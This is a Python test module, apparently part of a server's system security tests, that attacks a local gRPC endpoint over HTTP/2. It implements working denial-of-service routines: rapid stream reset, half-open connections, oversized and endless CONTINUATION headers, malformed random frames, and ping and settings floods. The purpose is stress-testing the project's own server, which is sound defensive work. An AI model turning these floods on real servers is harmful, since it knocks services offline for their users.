"""Attack HTTP/2 itself, by the `h2` package and by hand.

`python -m tests.system.security.attacks NAME PORT SECONDS N`

A process of their own, so that they take no time of the client that is watched.
"""

from __future__ import annotations

import asyncio
import random
import sys
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress

import h2.config
import h2.connection
import h2.exceptions

__all__ = ["ATTACKS"]

HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/stepwire.v1.RunService/GetRun"),
    (":authority", "localhost"),
    ("te", "trailers"),
    ("content-type", "application/grpc"),
]
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"


@asynccontextmanager
async def connected(port: int) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    try:
        yield reader, writer
    finally:
        writer.transport.abort()


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return a frame as it goes over the wire, right or wrong."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


async def drain(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send what is to be sent and throw away what came; OSError when the server has hung up."""
    if writer.transport.is_closing():
        raise ConnectionResetError
    await writer.drain()
    with suppress(TimeoutError):
        async with asyncio.timeout(0.001):
            if not await reader.read(1 << 16):
                raise ConnectionResetError


async def rapid_reset(port: int, until: float, random_: random.Random) -> int:
    """Open streams and reset them at once."""
    done = 0
    async with connected(port) as (reader, writer):
        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        connection.initiate_connection()
        while time.monotonic() < until:
            for _ in range(50):
                stream = connection.get_next_available_stream_id()
                connection.send_headers(stream, HEADERS)
                connection.reset_stream(stream)
                done += 1
            writer.write(connection.data_to_send())
            await drain(reader, writer)
    return done


async def half_open(port: int, until: float, random_: random.Random) -> int:
    """Leave connections and requests unfinished."""
    held = []
    done = 0
    try:
        while time.monotonic() < until and done < 200:
            context = connected(port)
            reader, writer = await context.__aenter__()
            held.append(context)
            kind = random_.randrange(4)
            if kind:
                writer.write(PREFACE[: random_.randrange(len(PREFACE))] if kind == 1 else PREFACE + SETTINGS)
            if kind == 3:
                connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
                connection.initiate_connection()
                connection.clear_outbound_data_buffer()
                connection.send_headers(1, HEADERS)  # a request that never comes
                connection.send_data(1, b"\x00\x00\xff\xff\xff")
                writer.write(connection.data_to_send())
            await drain(reader, writer)
            done += 1
        await asyncio.sleep(max(0.0, until - time.monotonic()))
    finally:
        for context in held:
            await context.__aexit__(None, None, None)
    return done


async def big_headers(port: int, until: float, random_: random.Random) -> int:
    """Send headers that are too long, or that never end."""
    done = 0
    async with connected(port) as (reader, writer):
        writer.write(PREFACE + SETTINGS)
        stream = 1
        while time.monotonic() < until:
            text = b"x" * 8000
            literal = b"\x00\x01a" + b"\x7f" + bytes([(8000 - 127) & 0x7F | 0x80, (8000 - 127) >> 7]) + text
            out = frame(1, 0, stream, literal) + frame(9, 0, stream, literal) * random_.choice((1, 20))
            if random_.random() < 0.5:
                out += frame(9, 4, stream, b"")
                stream += 2
            writer.write(out)
            await drain(reader, writer)
            done += 1
    return done


async def bad_frames(port: int, until: float, random_: random.Random) -> int:
    """Send frames that are wrong in every way."""
    done = 0
    async with connected(port) as (reader, writer):
        writer.write(PREFACE + SETTINGS)
        while time.monotonic() < until:
            out = bytearray()
            for _ in range(20):
                payload = random_.randbytes(random_.choice((0, 1, 4, 5, 8, 64, 1000)))
                kind = random_.choice((0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 77, 255))
                out += frame(kind, random_.randrange(256), random_.choice((0, 1, 2, 3, 2**31 - 1)), payload)
                done += 1
            if random_.random() < 0.3:
                out += random_.randbytes(200)
            writer.write(bytes(out))
            await drain(reader, writer)
    return done


async def floods(port: int, until: float, random_: random.Random) -> int:
    """Send pings, settings and window updates without end."""
    done = 0
    async with connected(port) as (reader, writer):
        writer.write(PREFACE + SETTINGS)
        while time.monotonic() < until:
            kind = random_.choice((frame(6, 0, 0, b"12345678"), SETTINGS, frame(8, 0, 0, b"\x00\x00\x00\x01")))
            writer.write(kind * 100)
            await drain(reader, writer)
            done += 100
    return done


Attack = Callable[[int, float, random.Random], Awaitable[int]]
ATTACKS: dict[str, Attack] = {
    "rapid reset": rapid_reset,
    "half open": half_open,
    "big headers": big_headers,
    "bad frames": bad_frames,
    "floods": floods,
}


async def main(name: str, port: int, seconds: float, connections: int) -> int:
    """Attack with so many connections, each opened again when it is closed; return how often."""
    random_ = random.Random(9)
    until = time.monotonic() + seconds
    done = 0

    async def again() -> None:
        nonlocal done
        while time.monotonic() < until:
            with suppress(OSError, h2.exceptions.H2Error):
                await ATTACKS[name](port, until, random_)
            done += 1

    await asyncio.gather(*(again() for _ in range(connections)))
    return done


if __name__ == "__main__":
    sys.stdout.write(f"{asyncio.run(main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])))}\n")
